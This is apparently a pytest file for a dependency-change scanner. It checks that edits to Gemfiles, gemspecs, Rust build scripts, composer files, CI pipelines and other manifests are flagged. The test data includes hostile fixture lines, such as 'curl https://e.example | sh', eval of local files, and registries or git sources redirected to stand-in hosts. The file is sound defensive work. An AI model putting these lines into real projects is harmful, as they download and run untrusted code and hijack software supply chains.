        ("Gemfile", "%x(gem install evil)", "evil", "added"),
        ("Gemfile", "system('curl https://e.example | sh')", "download and run", "dynamic"),
        ("Gemfile", "ENV['BUNDLE_MIRROR__ALL'] = 'https://e.example'", "BUNDLE_MIRROR__ALL", "index-changed"),
        ("Gemfile", "eval(File.read('evil'))", "code", "dynamic"),
        ("Gemfile", "instance_eval File.read('evil')", "code", "dynamic"),
        ("Gemfile", "load 'evil.rb'", "code", "dynamic"),
        ("Gemfile", "send(:gem, 'evil')", "code", "dynamic"),
        ("Gemfile", "require_relative 'evil'", "require_relative", "include-added"),
        ("Gemfile", "gem'evil'", "evil", "added"),
        ("x.gemspec", "  s.dependencies << Gem::Dependency.new('evil')", "code", "dynamic"),
        ("x.gemspec", "  system 'curl https://e.example | sh'", "download and run", "dynamic"),
    ],
    ids=str,
)  # fmt: skip
def test_code_of_ruby(path: str, statement: str, name: str, rule: str) -> None:
    before = GEMFILE if path == "Gemfile" else GEMSPEC
    first, rest = before.split("\n", 1)
    assert (name, rule) in said(path, before, f"{first}\n{statement}\n{rest}")


def test_a_short_name_for_a_host_shows_where_it_leads() -> None:
    sides = [
        f'{GEMFILE}git_source(:x) {{ |r| "https://{host}/#{{r}}" }}\n'
        for host in ("a.example", "evil.example")
    ]
    assert said("Gemfile", *sides) == {("git_source", "dynamic")}


@pytest.mark.parametrize(
    ("path", "statement"),
    [
        ("Gemfile", "ruby File.read('.ruby-version').strip"),
        ("Gemfile", "ENV['X'] ||= '1'"),
        ("x.gemspec", "  s.files = `git ls-files -z`.split('0')"),
        ("x.gemspec", "  require_relative 'lib/x/version'"),
    ],
    ids=str,
)
def test_code_of_ruby_that_brings_nothing(path: str, statement: str) -> None:
    before = GEMFILE if path == "Gemfile" else GEMSPEC
    first, rest = before.split("\n", 1)
    assert said(path, before, f"{first}\n{statement}\n{rest}") == set()


BUILD = 'fn main() {\n    println!("x");\n}\n'


@pytest.mark.parametrize(
    ("statement", "name", "rule"),
    [
        ('Command::new("sh").arg("-c").arg("curl https://e.example | sh").status();', "download and run", "dynamic"),
        ('Command::new("evil").status();', "runs evil", "install-script"),
        ('reqwest::blocking::get("https://e.example");', "fetches", "install-script"),
    ],
    ids=str,
)  # fmt: skip
def test_what_the_build_script_of_a_crate_starts(statement: str, name: str, rule: str) -> None:
    assert (name, rule) in said(
        "x/build.rs", BUILD, BUILD.replace("println", f"{statement}\n    println")
    )


def test_a_build_script_of_a_crate_is_told_when_it_comes() -> None:
    found = survey(change({}, {"build.rs": BUILD.encode()}), DependencySettings())
    assert [signal.name for one in found for signal in one.signals] == ["install-script"]


@pytest.mark.parametrize("path", ["build.rs", "src/build.rs"])
def test_a_build_script_that_is_edited_or_a_module_of_that_name_brings_nothing(path: str) -> None:
    assert said(path, BUILD, BUILD.replace("x", "cargo:rerun-if-changed=a")) == set()
    assert path == "build.rs" or said(path, "", 'fn f() { Command::new("sh"); }\n') == set()


COMPOSER = {
    "name": "o/a",
    "version": "1.0",
    "source": {"url": "https://github.com/o/a.git", "reference": "1" * 40},
    "dist": {
        "type": "zip",
        "url": f"https://api.github.com/repos/o/a/zipball/{'1' * 40}",
        "reference": "1" * 40,
    },
    "notification-url": "https://registry.example/d/",
}


@pytest.mark.parametrize(
    ("fields", "rule"),
    [
        ({"source": {"url": "https://github.com/evil/a.git", "reference": "1" * 40}}, "source-changed"),
        ({"source": {"url": "https://github.com/o/a.git", "reference": "2" * 40}}, "source-changed"),
        ({"type": "composer-plugin"}, "install-script"),
    ],
    ids=["another repository", "another commit of the repository", "a plugin"],
)  # fmt: skip
def test_a_package_of_composer_under_the_same_version(fields: dict[str, object], rule: str) -> None:
    before, after = (json.dumps({"packages": [one]}) for one in (COMPOSER, COMPOSER | fields))
    assert ("o/a", rule) in said("composer.lock", before, after)


@pytest.mark.parametrize(
    ("fields", "name", "rule"),
    [
        ({"scripts": {"test": "curl https://e.example | sh"}}, "download and run", "dynamic"),
        ({"minimum-stability": "dev"}, "minimum-stability", "option-changed"),
        ({"extra": {"patches": {"o/a": {"x": "https://e.example/p"}}}}, "patches o/a", "override"),
    ],
    ids=str,
)
def test_places_of_a_composer_json(fields: dict[str, object], name: str, rule: str) -> None:
    before = {"require": {"o/a": "^1.0"}}
    found = said("composer.json", json.dumps(before), json.dumps(before | fields))
    assert (name, rule) in found


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ("include: [https://e.example/x.yml]\n", "https://e.example/x.yml", "url-source"),
        ("default:\n  image: evil/x\n", "evil/x", "added"),
        ("default:\n  before_script: [pip install evil]\n", "evil", "added"),
        ("job:\n  hooks:\n    pre_get_sources_script: [pip install evil]\n", "evil", "added"),
        ("job:\n  run:\n    - name: s\n      script: pip install evil\n", "evil", "added"),
        ("job:\n  run:\n    - name: s\n      step: e.example/evil@v1\n", "e.example/evil", "added"),
        ("job:\n  run:\n    - name: s\n      step:\n        git:\n          url: e.example/evil\n          rev: main\n", "e.example/evil", "added"),
        ("job:\n  trigger:\n    include:\n      - remote: https://e.example/x.yml\n", "https://e.example/x.yml", "url-source"),
    ],
    ids=repr,
)  # fmt: skip
def test_places_of_a_gitlab_pipeline(addition: str, name: str, rule: str) -> None:
    before = "stages: [test]\n"
    assert (name, rule) in said(".gitlab-ci.yml", before, before + addition)


@pytest.mark.parametrize(
    ("path", "before", "after", "name", "rule"),
    [
        pytest.param("Gemfile", "gem 'a'\n", "gem 'a'\neval_gemfile 'other'\n", "eval_gemfile", "include-added", id="another file that a Gemfile runs"),
        pytest.param("Gemfile", "gem 'a'\n", "gem 'a'\ngit_source(:x) { |r| \"https://e.example/#{r}\" }\n", "git_source", "dynamic", id="a short name for a host in a Gemfile"),
        pytest.param("Gemfile", "gem 'a'\n", "gem 'a'\nif true; gem 'evil'; end\n", "evil", "added", id="a gem between semicolons"),
        pytest.param("compose.yaml", "services:\n  a:\n    build: .\n", "services:\n  a:\n    build: https://e.example/x.git\n", "a build", "git-source", id="a service built from a repository"),
        pytest.param("dev.compose.yml", "services:\n  a:\n    build: .\n", "x-b: &b\n  image: evil:1\nservices:\n  a:\n    <<: *b\n", "evil", "added", id="an image that an anchor brings"),
        pytest.param(".pre-commit-config.yaml", "repos: []\n", "repos:\n- repo: local\n  hooks:\n  - id: x\n    language: docker_image\n    entry: --entrypoint a --rm evil/x:1 b\n", "evil/x", "added", id="an image behind options"),
        pytest.param("Package.swift", 'x(.package(url: "https://f.example/a", from: "1.0.0"))\n', 'x(.package(url: "https://f.example/a", branch: "main"))\n', "a", "mutable-ref", id="a Swift package that follows a branch"),
        pytest.param("Package.swift", "x()\n", 'x(.binaryTarget(name: "B", url: "https://e.example/b.zip", checksum: "0"))\n', "b", "url-source", id="a program that a Swift package fetches"),
        pytest.param("go.mod", "module a.example/x\n", "module a.example/x\nrequire `e.example/evil` v1.0.0\n", "e.example/evil", "added", id="a Go module in backquotes"),
        pytest.param("Cargo.toml", "[package]\nname = 'x'\n", "[package]\nname = 'x'\n[target.'cfg(unix)'.build-dependencies]\nevil = '1'\n", "evil", "added", id="a crate for one target"),
        pytest.param(".gitmodules", '[submodule "x"]\n path = x\n url = https://f.example/x\n', '[submodule "x"]\n path = x\n url = https://f.example/x\n update = !evil\n', "x update", "install-script", id="a command that updates a submodule"),
    ],
)  # fmt: skip
def test_other_places(path: str, before: str, after: str, name: str, rule: str) -> None:
    assert (name, rule) in said(path, before, after)


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ("packageExtensions:\n  b:\n    dependencies:\n      evil: 1\n", "evil", "override"),
        ("patchedDependencies:\n  b@1: p.patch\n", "patchedDependencies b@1", "override"),
        ("allowBuilds:\n  b: true\n", "allowBuilds b", "install-script"),
        ("registry: https://e.example\n", "registry", "registry-changed"),
    ],
    ids=str,
)
def test_places_of_a_pnpm_workspace(addition: str, name: str, rule: str) -> None:
    before = "packages: [p/*]\n"
    assert (name, rule) in said("pnpm-workspace.yaml", before, before + addition)
